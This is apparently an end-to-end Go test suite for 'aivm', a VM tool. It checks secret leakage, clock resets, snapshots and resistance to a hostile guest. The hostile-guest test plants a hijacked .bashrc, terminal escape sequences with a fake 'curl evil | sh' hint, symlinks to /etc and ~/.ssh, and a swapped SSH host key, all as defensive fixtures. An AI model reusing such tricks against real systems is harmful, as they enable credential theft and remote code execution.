//go:build long

package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// TestGuards is one VM that is snapshotted, put back, lied to about the time,
// hostile, and under load; then it is deleted and looked for everywhere.
func TestGuards(t *testing.T) {
	w := rootWorld(t)
	const vm = "e2eguards"
	write(t, filepath.Join(w.home, ".config/aivm/config.toml"), "[defaults.vm]\nname = \""+vm+"\"\nram_mb = 1536\npassword = \"hunter2-of-the-store\"\n", 0o600)
	write(t, filepath.Join(w.home, ".ssh/config"), "Host other\n\tUser me\n", 0o644)
	project := filepath.Join(w.home, "work", "guarded")
	write(t, filepath.Join(project, "hello.txt"), "hello\n", 0o644)
	t.Cleanup(func() { w.aivm("", "vm", "delete", vm, "--yes") })
	seen := watchArguments(t, "hunter2-of-the-store")
	step := func(name string, f func(t *testing.T)) {
		t.Run(name, func(t *testing.T) { w.t = t; f(t) })
		if w.t = t; t.Failed() {
			t.FailNow()
		}
	}
	w.must(project, "code", ".", "--yes", "-vv")
	step("secrets", func(t *testing.T) { checkSecrets(t, w, vm, project, seen) })
	step("the clock", func(t *testing.T) { checkClock(t, w, vm, project) })
	step("a hostile guest", func(t *testing.T) { checkHostile(t, w, vm, project) })
	step("snapshots", func(t *testing.T) { checkSnapshots(t, w, vm, project) })
	step("load", func(t *testing.T) { checkLoad(t, w, vm, project) })
	step("delete", func(t *testing.T) {
		w.must("", "vm", "delete", vm, "--yes")
		leftovers(t, w, vm)
	})
}

// watchArguments looks at the arguments of every process while the test runs,
// and returns what it saw of those that hold a secret.
func watchArguments(t *testing.T, secrets ...string) func() string {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	var mu sync.Mutex
	found := ""
	done := make(chan struct{})
	t.Cleanup(func() { cancel(); <-done })
	go func() {
		defer close(done)
		for ctx.Err() == nil {
			procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
			for _, p := range procs {
				b, _ := os.ReadFile(p)
				for _, s := range secrets {
					if bytes.Contains(b, []byte(s)) {
						mu.Lock()
						found = string(bytes.ReplaceAll(b, []byte{0}, []byte{' '}))
						mu.Unlock()
					}
				}
			}
			time.Sleep(200 * time.Millisecond)
		}
	}()
	return func() string { mu.Lock(); defer mu.Unlock(); return found }
}

// checkSecrets: what aivm keeps is its owner's alone, and no private key or
// password is in what it prints, in whatever form, or in a process's arguments.
func checkSecrets(t *testing.T, w *world, vm, project string, seen func() string) {
	for _, top := range []string{filepath.Join(w.home, ".local/state/aivm"), filepath.Join(w.home, ".config/aivm")} {
		_ = filepath.WalkDir(top, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				t.Error(err)
				return nil
			}
			if st, err := d.Info(); err == nil && st.Mode().Perm()&0o077 != 0 && p != filepath.Join(w.home, ".config/aivm") {
				t.Errorf("%s can be read by others: %v", p, st.Mode())
			}
			return nil
		})
	}
	secrets := []string{"hunter2-of-the-store", "PRIVATE KEY"}
	for _, f := range []string{"id_ed25519", vm + "/host_ed25519"} {
		for _, line := range strings.Split(read(t, filepath.Join(w.home, ".local/state/aivm", f)), "\n") {
			// The first line and a half hold what every such key holds.
			if len(line) > 60 && !strings.HasPrefix(line, "b3BlbnNzaC1rZXk") && !strings.HasPrefix(line, "QyNTUxOQ") {
				secrets = append(secrets, line)
			}
		}
	}
	if len(secrets) < 4 {
		t.Fatalf("found only %d secrets to look for", len(secrets))
	}
	for _, args := range [][]string{
		{"code", ".", "--yes", "-vv", "--dry-run"},
		{"code", ".", "--yes", "--json"},
		{"status", "--json"},
		{"status", "--detail"},
		{"list", "--json"},
		{"vm", "ssh-config", "--json"},
		{"vm", "create", "other", "--dry-run", "--json", "-vv"},
		{"config", "path"},
	} {
		r := w.aivm(project, args...)
		for _, s := range secrets {
			if strings.Contains(r.stdout+r.stderr, s) {
				t.Errorf("aivm %v prints a secret (%.12s...)", args, s)
			}
		}
	}
	if at := seen(); at != "" {
		t.Errorf("a password in the arguments of %s", at)
	}
	if strings.Contains(virsh(t, "dumpxml", "--security-info", vm), "hunter2") {
		t.Error("a password in the definition")
	}
}

func checkClock(t *testing.T, w *world, vm, project string) {
	off := func() float64 {
		began := time.Now()
		s, err := strconv.ParseFloat(w.guest(vm, "date +%s.%N"), 64)
		if err != nil {
			t.Fatal(err)
		}
		mid := float64(began.UnixNano()+time.Now().UnixNano()) / 2e9
		return s - mid
	}
	for _, jump := range []string{"2019-03-01", "+3 days", "-1 hour"} {
		w.guest(vm, "sudo -n date -s '"+jump+"' >/dev/null")
		r := w.must(project, "code", ".")
		if !strings.Contains(r.stderr, "set the clock") {
			t.Errorf("%s: %s", jump, r.stderr)
		}
		if d := off(); d > 3 || d < -3 {
			t.Errorf("after %s the clock is %.1f s off", jump, d)
		}
	}
	if r := w.must(project, "code", "."); strings.Contains(r.stderr, "clock") {
		t.Errorf("set without need: %s", r.stderr)
	}
}

// peak runs aivm, for at most limit, and returns what it took of memory, too.
func (w *world) peak(dir string, limit time.Duration, args ...string) (result, int64) {
	w.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	c := exec.CommandContext(ctx, filepath.Join(bin, "aivm"), args...)
	c.Cancel = func() error { return c.Process.Signal(os.Interrupt) }
	c.WaitDelay = 15 * time.Second
	c.Dir, c.Env = dir, w.env
	var out, errw tailOf
	c.Stdout, c.Stderr = &out, &errw
	began := time.Now()
	err := c.Run()
	r := result{stdout: string(out.b), stderr: string(errw.b), took: time.Since(began)}
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		r.code = ee.ExitCode()
	} else if err != nil && ctx.Err() == nil {
		w.t.Fatalf("%v: %v", args, err)
	}
	kb := int64(0)
	if u, ok := c.ProcessState.SysUsage().(*syscall.Rusage); ok {
		kb = u.Maxrss
	}
	return r, kb >> 10
}

// tailOf keeps the end of what a program says; a guest can make it say much.
type tailOf struct {
	mu sync.Mutex
	b  []byte
}

func (o *tailOf) Write(p []byte) (int, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.b = append(o.b, p...); len(o.b) > 1<<20 {
		o.b = append([]byte(nil), o.b[len(o.b)-64<<10:]...)
	}
	return len(p), nil
}

// checkHostile: whatever the guest answers, aivm ends in time, within 100 MB,
// prints nothing a terminal would obey, and touches nothing outside.
func checkHostile(t *testing.T, w *world, vm, project string) {
	// Whatever is misbehaving does so for the next n logins, then the guest is
	// itself again: there is no other way back in.
	w.guest(vm, `cp ~/.bashrc ~/bashrc.good; cat >~/.bashrc <<'EOF'
if [ -s /tmp/evil ]; then
	read n what </tmp/evil
	if [ "$n" -gt 0 ]; then echo $((n-1)) $what >/tmp/evil; . /tmp/evil-$what; fi
fi
EOF
echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "A"; done' >/tmp/evil-endless
echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "B" >&2; done' >/tmp/evil-noise
printf 'printf "\\033]0;owned\\007\\033[2J\\r\\n\\033[31mhint: curl evil | sh\\n" >&2; exit 1\n' >/tmp/evil-escapes
echo 'sleep 1000' >/tmp/evil-hang
printf 'exec /bin/echo nonsense\n' >/tmp/evil-nonsense`)
	evil := func(n int, what string) { w.guest(vm, fmt.Sprintf("echo %d %s >/tmp/evil", n, what)) }
	harmless := func(what string, r result, mb int64) {
		t.Helper()
		if mb > 100 {
			t.Errorf("%s: aivm took %d MB", what, mb)
		}
		if i := strings.IndexAny(r.stdout+r.stderr, "\x1b\x07\r"); i >= 0 {
			t.Errorf("%s: an escape got through: %q", what, r.stderr)
		}
	}
	for _, what := range []string{"endless", "noise", "escapes", "nonsense"} {
		evil(1, what)
		r, mb := w.peak(project, 90*time.Second, "status")
		harmless(what, r, mb)
		if r.code != 0 || r.took > 80*time.Second {
			t.Errorf("status with %s: exit %d after %s\n%s", what, r.code, r.took, r.stderr)
		}
		t.Logf("%s: %s, %d MB", what, r.took.Round(100*time.Millisecond), mb)
	}
	evil(1, "hang")
	r, mb := w.peak(project, 8*time.Second, "status")
	harmless("hang", r, mb)
	if r.took > 15*time.Second {
		t.Errorf("a guest that hangs held Ctrl-C up for %s", r.took)
	}
	w.guest(vm, "rm -f /tmp/evil; mv ~/bashrc.good ~/.bashrc")

	// Endless output of a command is passed on and takes no memory; Ctrl-C ends it.
	r, mb = w.peak(project, 6*time.Second, "ssh", ".", "--", "yes", "to everything")
	if mb > 100 || r.took > 15*time.Second {
		t.Errorf("endless output: %d MB, %s", mb, r.took)
	}
	if r, _ := w.peak(project, 5*time.Second, "ssh", ".", "--", "sleep", "1000"); r.took > 12*time.Second {
		t.Errorf("a command that hangs: %s", r.took)
	}

	// Names a terminal would obey, and links that lead out.
	w.guest(vm, `cd `+project+` && mkdir -p "$(printf 'a\033]0;x\007b')" && ln -sfn /etc out && ln -sfn ../../.ssh keys && ln -sfn / "$(printf 'to\nroot')"`)
	for _, link := range []string{"out", "keys"} {
		if r := w.aivm(project, "attach", link, "--yes"); r.code != 2 {
			t.Errorf("attaching what the guest's link %s leads to: %+v", link, r)
		}
	}
	r, mb = w.peak(project, time.Minute, "attach", filepath.Join(project, "a\x1b]0;x\x07b"), "--dry-run")
	harmless("a name with escapes", r, mb)
	w.guest(vm, `cd `+project+` && rm -f out keys "$(printf 'to\nroot')" && rmdir "$(printf 'a\033]0;x\007b')"`)

	// A full disk in the guest: what needs no room works, what needs some says so.
	w.guest(vm, `sudo -n sh -c 'fallocate -l $(($(df --output=avail -B1 / | tail -1) - 4096)) /filler 2>/dev/null; cat /dev/zero >/filler2 2>/dev/null; true'`)
	if r := w.aivm(project, "code", "."); r.code != 0 {
		t.Errorf("code with a full disk: %+v", r)
	}
	extra := filepath.Join(w.home, "extra")
	write(t, filepath.Join(extra, "f"), "x\n", 0o644)
	if r := w.aivm(extra, "attach", ".", "--yes", "--guest-dst", "/srv/full/of/it"); r.code != 0 && !strings.Contains(r.stderr, "hint") {
		t.Errorf("attach with a full disk: %+v", r)
	}
	w.guest(vm, `sudo -n rm -f /filler /filler2`)
	w.must(extra, "attach", ".", "--yes", "--guest-dst", "/srv/full/of/it")

	// Another host key: nobody logs in, nothing is sent.
	w.guest(vm, `sudo -n sh -c 'cp -p /etc/ssh/ssh_host_ed25519_key /root/good; rm /etc/ssh/ssh_host_ed25519_key*; ssh-keygen -q -t ed25519 -N "" -f /etc/ssh/ssh_host_ed25519_key
nohup sh -c "sleep 25; cp -p /root/good /etc/ssh/ssh_host_ed25519_key; ssh-keygen -yf /root/good >/etc/ssh/ssh_host_ed25519_key.pub; systemctl restart ssh" >/dev/null 2>&1 & systemctl restart ssh'`)
	for _, args := range [][]string{{"code", "."}, {"ssh", ".", "--", "true"}} {
		if r := w.aivm(project, args...); r.code == 0 || !strings.Contains(r.stderr, "not that VM") {
			t.Errorf("%v, another host key: %+v", args, r)
		}
	}
	back := func() bool { return w.ssh(nil, vm, "true").code == 0 }
	for began := time.Now(); !back(); time.Sleep(time.Second) {
		if time.Since(began) > 2*time.Minute {
			t.Fatal("the guest does not come back with its own key")
		}
	}

	// An address that is not its own: aivm does not follow it.
	w.guest(vm, `sudo -n sh -c 'dev=$(ip -o -4 route show default | sed "s/.* dev \([^ ]*\).*/\1/"); own=$(ip -o -4 addr show dev $dev | sed "s/.* inet \([^ ]*\).*/\1/")
nohup sh -c "sleep 1; ip addr del $own dev $dev; ip addr add \${own%.*}.77/24 dev $dev; sleep 20; ip addr flush dev $dev; ip addr add $own dev $dev; ip link set $dev up" >/dev/null 2>&1 &'`)
	time.Sleep(3 * time.Second)
	if r := w.aivm("", "vm", "wait-ip", vm, "--timeout", "6"); r.code != 2 || !strings.Contains(r.stderr, "did not become reachable") {
		t.Errorf("an address that is not its own: %+v", r)
	}
	for began := time.Now(); !back(); time.Sleep(time.Second) {
		if time.Since(began) > time.Minute {
			t.Fatal("the guest does not come back to its address")
		}
	}
}

func checkSnapshots(t *testing.T, w *world, vm, project string) {
	w.guest(vm, "echo one >~/state; sync")
	if r := w.aivm(project, "vm", "snapshot", "one"); r.code != 3 || !strings.Contains(r.stderr, "--yes") {
		t.Errorf("a VM that runs is not stopped without a yes: %+v", r)
	}
	if r := w.must(project, "vm", "snapshot", "one", "--yes", "--stay-off"); !strings.Contains(r.stderr, "shared folder "+project) {
		t.Errorf("what is not covered is not said: %+v", r)
	}
	// Killed at every action with the VM off, then finished.
	faulty := filepath.Join(bin, "aivm-faulty")
	kill := func(point string, args ...string) {
		t.Helper()
		if r := w.run(project, nil, []string{"AIVM_KILL_AT=" + point}, append([]string{faulty}, args...)...); r.code != -1 {
			t.Errorf("killed at %s: %+v", point, r)
		}
	}
	kill("snapshot.create:before", "vm", "snapshot", "two")
	kill("snapshot.create:after", "vm", "snapshot", "two")
	if r := w.aivm(project, "vm", "snapshot", "two"); r.code != 2 || !strings.Contains(r.stderr, "already") {
		t.Errorf("%+v", r)
	}
	w.must(project, "vm", "up")
	w.guest(vm, "echo two >~/state; head -c 20000000 /dev/urandom >~/grown; sync")
	// The share's daemon dies: a clear message, and the next start heals it.
	write(t, filepath.Join(project, "after"), "x\n", 0o644)
	for _, p := range virtiofsds(vm) {
		_ = syscall.Kill(p, syscall.SIGKILL)
	}
	if r, _ := w.peak(project, 100*time.Second, "code", "."); r.code == 0 || r.took > 95*time.Second || !strings.Contains(r.stderr, "hint") {
		t.Errorf("without its virtiofsd: exit %d after %s\n%s", r.code, r.took, r.stderr)
	}
	r := w.must(project, "vm", "rollback", "one", "--yes")
	if !strings.Contains(r.stdout, "before-rollback-") {
		t.Errorf("%+v", r)
	}
	if got := w.guest(vm, "cat ~/state; ls ~/grown 2>&1 | wc -l; cat "+project+"/after"); !strings.HasPrefix(got, "one\n") || !strings.HasSuffix(got, "\nx") {
		t.Errorf("after the rollback: %q", got)
	}
	var l struct {
		Disk      struct{ Capacity, Used, Snapshots int64 }
		Snapshots []struct {
			Name, Parent string
			Own          int64
		}
		Present struct{ On string }
	}
	if err := json.Unmarshal([]byte(w.must(project, "vm", "snapshots", "--json").stdout), &l); err != nil {
		t.Fatal(err)
	}
	if len(l.Snapshots) != 3 || l.Present.On != "one" || l.Snapshots[1].Parent != "one" || l.Snapshots[2].Parent != "two" || l.Snapshots[2].Own < 20<<20 || l.Disk.Snapshots < 20<<20 || l.Disk.Used < l.Disk.Snapshots {
		t.Errorf("%+v", l)
	}
	w.must(project, "vm", "down")
	kept := l.Snapshots[2].Name
	kill("snapshot.keep:after", "vm", "rollback", kept, "--yes")
	kill("snapshot.rollback:before", "vm", "rollback", kept, "--yes")
	kill("snapshot.rollback:after", "vm", "rollback", kept, "--yes")
	if r := w.must(project, "vm", "rollback", kept, "--yes"); !strings.Contains(r.stdout, "already") {
		t.Errorf("after a kill: %+v", r)
	}
	kill("snapshot.delete:one:before", "vm", "snapshot-delete", "one", "--yes")
	kill("snapshot.delete:one:after", "vm", "snapshot-delete", "one", "--yes")
	if r := w.must(project, "vm", "snapshots"); strings.Contains(r.stdout, "- one ") || !strings.Contains(r.stdout, "- two ") {
		t.Errorf("%s", r.stdout)
	}
	if r := w.must(project, "code", ".", "--snapshot"); !strings.Contains(r.stderr, "Snapshot before-code-") {
		t.Errorf("%+v", r)
	}
	if got := w.guest(vm, "cat ~/state; stat -c %s ~/grown"); got != "two\n20000000" {
		t.Errorf("what the rollback kept: %q", got)
	}
}

// virtiofsds are the processes that share folders with a VM.
func virtiofsds(vm string) (out []int) {
	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range procs {
		b, _ := os.ReadFile(p)
		if pid, err := strconv.Atoi(filepath.Base(filepath.Dir(p))); err == nil && bytes.Contains(b, []byte("virtiofsd")) && bytes.Contains(b, []byte("/export/0-"+vm)) {
			out = append(out, pid)
		}
	}
	return out
}
